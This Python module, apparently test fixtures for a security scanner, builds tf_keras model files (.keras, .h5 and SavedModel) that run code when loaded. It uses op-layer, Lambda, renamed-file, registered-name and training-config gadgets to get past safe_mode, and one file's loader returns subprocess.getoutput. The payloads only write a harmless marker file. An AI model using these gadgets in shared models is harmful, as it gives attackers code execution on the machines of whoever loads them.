"""Builders of hostile tf_keras model files: loading each without screening runs code.

Each `make_*(folder, marker)` saves an ordinary model, edits its stored config and
returns the path. Loading the path with plain `tf_keras.models.load_model` (safe_mode
on; `compile=True` for the training-config gadget) writes `marker`, except
`make_function_keras`, whose loading returns the function `subprocess.getoutput`
instead of a model.
"""

import json
import os
import zipfile

import h5py
import tf_keras as keras


def _write_file_layer(marker):
    """A TFOpLambda calling `tf.io.write_file(marker, contents="pwned")` on constants only, so
    that it runs eagerly while the functional model is rebuilt."""
    return {"module": "tf_keras.src.layers.core.tf_op_layer", "class_name": "TFOpLambda",
            "config": {"name": "tf.io.write_file", "trainable": True, "dtype": "float32",
                       "function": "io.write_file"},
            "registered_name": "TFOpLambda", "name": "tf.io.write_file",
            "inbound_nodes": [["_CONSTANT_VALUE", -1, str(marker), {"contents": "pwned"}]]}


def _op_model():
    inputs = keras.Input((3,), name="inputs")
    return keras.Model(inputs, inputs * 2.0)  # holds one TFOpLambda (math.multiply)


def _h5_op_model(folder, name, edit):
    """A legacy .h5 op model whose stored `model_config` went through `edit(config)`."""
    path = os.path.join(folder, name)
    _op_model().save(path, save_format="h5")
    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        edit(config)
        file.attrs["model_config"] = json.dumps(config)
    return path


def _rewrite_config(path, config):
    with zipfile.ZipFile(path) as archive:
        members = [(info, archive.read(info.filename)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, content in members:
            archive.writestr(info, json.dumps(config) if info.filename == "config.json" else content)


def _lambda_model(marker):
    # The marker path is a constant of the lambda's bytecode, which the file stores.
    write = eval(f"lambda t: (open({str(marker)!r}, 'w').write('pwned'), t)[1]")  # noqa: S307
    inputs = keras.Input((3,), name="inputs")
    return keras.Model(inputs, keras.layers.Lambda(write, name="evil")(inputs))


def _remove(marker):
    """Building and saving call the lambda: only loading may leave the marker."""
    if os.path.exists(marker):
        os.remove(marker)


def make_op_layer_keras(folder, marker):
    """A .keras file whose op layer writes a file (`io.write_file`)."""
    path = os.path.join(folder, "op_layer.keras")
    _op_model().save(path)
    with zipfile.ZipFile(path) as archive:
        config = json.loads(archive.read("config.json"))
    config["config"]["layers"].append(_write_file_layer(marker))
    _rewrite_config(path, config)
    return path


def make_op_layer_h5(folder, marker):
    """The same op layer in a legacy .h5 file."""
    return _h5_op_model(folder, "op_layer.h5", lambda config: config["config"]["layers"].append(
        _write_file_layer(marker)))


def make_registered_name_h5(folder, marker):
    """The op layer under a harmless `registered_name`, which the legacy loader ignores."""
    layer = dict(_write_file_layer(marker), registered_name="QuantizeLayer")
    return _h5_op_model(folder, "registered_name.h5", lambda config: config["config"]["layers"].append(layer))


def make_training_config_h5(folder, marker):
    """A harmless .h5 model whose training config (read with compile=True) holds an optimizer
    wrapping a model with the op layer."""
    path = _h5_op_model(folder, "training_config.h5", lambda config: None)
    with h5py.File(path, "r+") as file:
        inner = json.loads(file.attrs["model_config"])
        inner["config"]["layers"].append(_write_file_layer(marker))
        file.attrs["training_config"] = json.dumps({
            "optimizer_config": {"class_name": "Custom>SharpnessAwareMinimization",
                                 "config": {"model": inner, "rho": 0.05, "name": "sam"}},
            "loss": None, "metrics": None, "weighted_metrics": None, "loss_weights": None})
    return path


def make_registered_name_saved_model(folder, marker):
    """A SavedModel whose op layer's Keras metadata calls `io.write_file` under a harmless
    `registered_name`, and whose model calls that layer on constants."""
    from tf_keras.protobuf import saved_metadata_pb2

    path = os.path.join(folder, "registered_name_saved_model")
    _op_model().save(path, save_format="tf")
    metadata = saved_metadata_pb2.SavedMetadata()
    with open(os.path.join(path, "keras_metadata.pb"), "rb") as file:
        metadata.ParseFromString(file.read())
    for node in metadata.nodes:
        entry = json.loads(node.metadata)
        if entry.get("class_name") == "TFOpLambda":
            entry["config"]["function"] = "io.write_file"
            entry["registered_name"] = "QuantizeLayer"
        elif entry.get("class_name") == "Functional":
            layer = next(item for item in entry["config"]["layers"] if item["class_name"] == "TFOpLambda")
            layer["inbound_nodes"] = [["_CONSTANT_VALUE", -1, str(marker), {"contents": "pwned"}]]
        node.metadata = json.dumps(entry)
    with open(os.path.join(path, "keras_metadata.pb"), "wb") as file:
        file.write(metadata.SerializeToString())
    return path


def make_function_keras(folder, marker):
    """A .keras file whose top-level object is `subprocess.getoutput` (any module is imported)."""
    path = os.path.join(folder, "function.keras")
    _op_model().save(path)
    _rewrite_config(path, {"module": "subprocess", "class_name": "function", "config": "getoutput",
                           "registered_name": "getoutput"})
    return path


def make_lambda_h5_named_keras(folder, marker):
    """A legacy .h5 file with a Lambda layer, renamed to .keras (tf_keras then ignores safe_mode)."""
    path = os.path.join(folder, "renamed.keras")
    _lambda_model(marker).save(path + ".h5", save_format="h5")
    os.replace(path + ".h5", path)
    _remove(marker)
    return path


def make_lambda_saved_model(folder, marker):
    """A SavedModel folder with a Lambda layer."""
    path = os.path.join(folder, "lambda_saved_model")
    _lambda_model(marker).save(path, save_format="tf")
    _remove(marker)
    return path


GADGETS = {name[len("make_"):]: function for name, function in sorted(globals().items())
           if name.startswith("make_")}
